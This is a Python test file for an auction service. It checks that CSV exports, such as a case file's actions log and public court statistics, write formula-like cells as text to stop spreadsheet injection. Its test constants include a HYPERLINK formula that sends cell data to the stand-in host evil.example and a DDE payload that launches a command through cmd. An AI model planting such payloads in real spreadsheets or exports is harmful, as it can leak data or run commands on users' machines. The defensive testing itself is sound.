"""Every CSV the service writes is safe to open in a spreadsheet (``contract/csv_cells.py``): a cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a ``'`` before it
(OWASP's rule), while numbers stay numbers. Checked on the case file's ``actions.csv`` (a suspension's
reason) and the public ``/stats/groups?format=csv`` (a court's name), and kept so by a scan: nothing in
the service writes CSV but through the one helper."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from auction_service.contract.case_file import verify_case_file
from auction_service.contract.csv_cells import safe_cell
from tests.support.scenes import START_PRICE, go_to, scene

SERVICE = Path(__file__).resolve().parents[2] / "auction_service"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
COURT = "=1+2+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("深圳市中级人民法院", "深圳市中级人民法院"),
        ("a=b", "a=b"),
        ("-5", "-5"),  # a number (a fall from one year to the next) stays a number
        ("-0.125000", "-0.125000"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written) -> None:
    assert safe_cell(value) == written


async def test_a_suspension_reason_goes_into_the_case_files_actions_csv_as_text(service) -> None:
    s = await scene(service, bidders=2)
    r = await service.client.post(f"/api/v1/auctions/{s.id}/suspend", json={"reason": LINK}, headers=s.staff)
    assert r.status_code == 200, r.text
    r = await service.client.post(f"/api/v1/auctions/{s.id}/resume", headers=s.staff)
    assert r.status_code == 200, r.text
    assert (await service.api.bid(s.bidders[0], s.id, START_PRICE)).status_code == 201
    await go_to(service, s.end_at)
    r = await service.client.get(f"/api/v1/auctions/{s.id}/case-file", headers=s.staff)
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        actions = list(csv.DictReader(io.StringIO(archive.read("actions.csv").decode("utf-8"))))
    reasons = [a["reason"] for a in actions if a["action"] == "auction_suspended"]
    assert reasons == ["'" + LINK]
    assert verify_case_file(r.content).valid


async def test_court_names_in_the_public_statistics_csv_are_written_as_text(service) -> None:
    staff = await service.api.staff(service.services, court=COURT)
    s = await scene(service, bidders=1, staff=staff)
    assert (await service.api.bid(s.bidders[0], s.id, START_PRICE)).status_code == 201
    await go_to(service, s.end_at)
    r = await service.client.get("/api/v1/stats/groups", params={"by": "court", "format": "csv"})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["court"] for row in rows] == ["'" + COURT]
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())


def test_nothing_in_the_service_writes_csv_but_through_the_one_helper() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(SERVICE))
        for path in SERVICE.rglob("*.py")
        if path.name != "csv_cells.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []
